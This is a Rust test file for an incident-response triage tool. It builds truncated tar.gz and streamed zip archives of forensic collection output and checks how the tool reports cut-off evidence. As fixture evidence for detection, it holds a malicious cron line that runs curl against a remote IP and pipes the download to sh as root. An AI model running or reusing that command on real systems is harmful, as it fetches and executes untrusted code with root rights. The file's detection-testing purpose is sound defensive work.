//! Archives whose end is missing: what came before is used where it tells anything, and that it is cut
//! is said with where, and with what to do.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use std::io::Write;
use std::process::Command;

/// Exit code and all that was printed, blanks and line ends as one.
fn triage(bytes: &[u8]) -> (i32, String) {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("evidence");
    std::fs::write(&path, bytes).unwrap();
    let mut command = Command::new(env!("CARGO_BIN_EXE_davy"));
    let ran = command.arg("triage").arg(path).args(["-q", "--memory", "none"]).output().unwrap();
    let text = [ran.stdout, ran.stderr].concat();
    let text = String::from_utf8_lossy(&text).into_owned();
    let words: Vec<&str> = text.split_whitespace().collect();
    (ran.status.code().unwrap(), words.join(" "))
}

/// Bytes that do not pack, and are the same every time.
fn noise(count: usize) -> Vec<u8> {
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state.to_le_bytes()[3]
    };
    (0..count).map(|_| next()).collect()
}

fn tar(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut tar = tar::Builder::new(Vec::new());
    for (name, bytes) in members {
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        tar.append_data(&mut header, name, *bytes).unwrap();
    }
    tar.into_inner().unwrap()
}

fn gz(bytes: &[u8]) -> Vec<u8> {
    let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    packer.write_all(bytes).unwrap();
    packer.finish().unwrap()
}

const CRON: &[u8] = b"* * * * * root curl http://198.51.100.9/a|sh\n";
const LOG: &[u8] = b"2026-11-22 05:23:08 +0000 INF Operating system: linux\n";

/// A member, and what is said of the archive that is cut within it.
fn said(members: &[(&str, &[u8])], cut: usize) -> (i32, String) {
    let packed = gz(&tar(members));
    triage(&packed[..packed.len() - cut])
}

#[test]
fn half_an_archive_of_catscale_is_used() {
    let crontabs = gz(&tar(&[("etc/cron.d/x", CRON)]));
    let filler = noise(100_000);
    let members: [(&str, &[u8]); 5] = [
        ("./out/h-console-error-log.txt", b"Date : Sun Nov 22 06:31:00 UTC 2026\n"),
        ("./out/Misc/h-full-timeline.csv", b"Inode,Hard link Count,Full Path\n"),
        ("./out/Persistence/h-cron-folder.tar.gz", &crontabs),
        ("./out/Logs/h-var-log-list.txt", &filler),
        ("./out/Process_and_Network/h-process-exe-links.txt", b""),
    ];
    let (code, text) = said(&members, 50_000);
    assert_eq!(code, 4, "{text}");
    assert!(text.contains("cron entry downloads"), "{text}");
    // Above the findings.
    let head = text.split("FINDINGS").next().unwrap();
    for words in ["cut off or damaged", "h-var-log-list.txt: cut: ", "copy it again"] {
        assert!(head.contains(words), "{words}: {head}");
    }
    assert!(text.contains("ends before CatScale's lists of what ran"), "{text}");
    let (code, text) = said(&members, 0);
    assert_eq!(code, 0, "{text}");
    assert!(!text.contains("cut off"), "{text}");
}

#[test]
fn too_little_to_tell_is_told_as_cut() {
    let filler = noise(100_000);
    let long = [LOG, &filler].concat();
    for (members, cut) in [
        (&[("uac.log", long.as_slice())][..], 50_000),
        (&[("out/h-console-error-log.txt", filler.as_slice())], 50_000),
        (&[("a", b"x".as_slice()), ("b", &filler)], 5000),
    ] {
        let (code, text) = said(members, cut);
        assert_eq!(code, 2, "{text}");
        for words in ["cut or damaged", "bytes are there", "too", "copy it again"] {
            assert!(text.contains(words), "{words}: {text}");
        }
    }
    let (code, text) = triage(&gz(&tar(&[("uac.log", LOG)]))[..20]);
    assert!(code == 2 && text.contains("cut"), "{text}");
}

/// A zip as it is written to a stream: what is behind a member says how long it was.
fn streamed(members: &[(&str, &[u8], bool)]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, bytes, pack) in members {
        let mut packer =
            flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::fast());
        packer.write_all(bytes).unwrap();
        let packed = if *pack { packer.finish().unwrap() } else { bytes.to_vec() };
        let method: u16 = if *pack { 8 } else { 0 };
        out.extend(b"PK\x03\x04\x14\0\x08\0");
        out.extend(method.to_le_bytes());
        out.extend([0; 16]);
        out.extend(u16::try_from(name.len()).unwrap().to_le_bytes());
        out.extend([0; 2]);
        out.extend(name.as_bytes());
        out.extend(&packed);
        out.extend(b"PK\x07\x08\x01\x02\x03\x04");
        out.extend(u32::try_from(packed.len()).unwrap().to_le_bytes());
        out.extend(u32::try_from(bytes.len()).unwrap().to_le_bytes());
    }
    out
}

#[test]
fn a_zip_that_was_streamed_is_used_without_its_end() {
    let filler = noise(100_000);
    // The mark of an end within a member ends nothing.
    let tricky = [CRON, b"# PK\x07\x08aaaabbbbcccc PK\x03\x04\n"].concat();
    let whole = streamed(&[
        ("client_info.json", b"{\"Hostname\":\"web-9\"}\n", true),
        ("uploads/file/etc/cron.d/x", &tricky, false),
        ("uploads/file/etc/cron.d/y", CRON, true),
        ("uploads/file/usr/bin/z", &filler, true),
        ("uploads/file/etc/zz", b"", true),
    ]);
    for cut in [0, 20, 50_000] {
        let (code, text) = triage(&whole[..whole.len() - cut]);
        assert_eq!(code, 4, "{text}");
        for words in ["web-9", "/etc/cron.d/x", "/etc/cron.d/y", "cut off or damaged"] {
            assert!(text.contains(words), "{words} at {cut}: {text}");
        }
    }
    let (code, text) = triage(&whole[..40]);
    assert!(code == 2 && text.contains("cut or damaged"), "{text}");
}
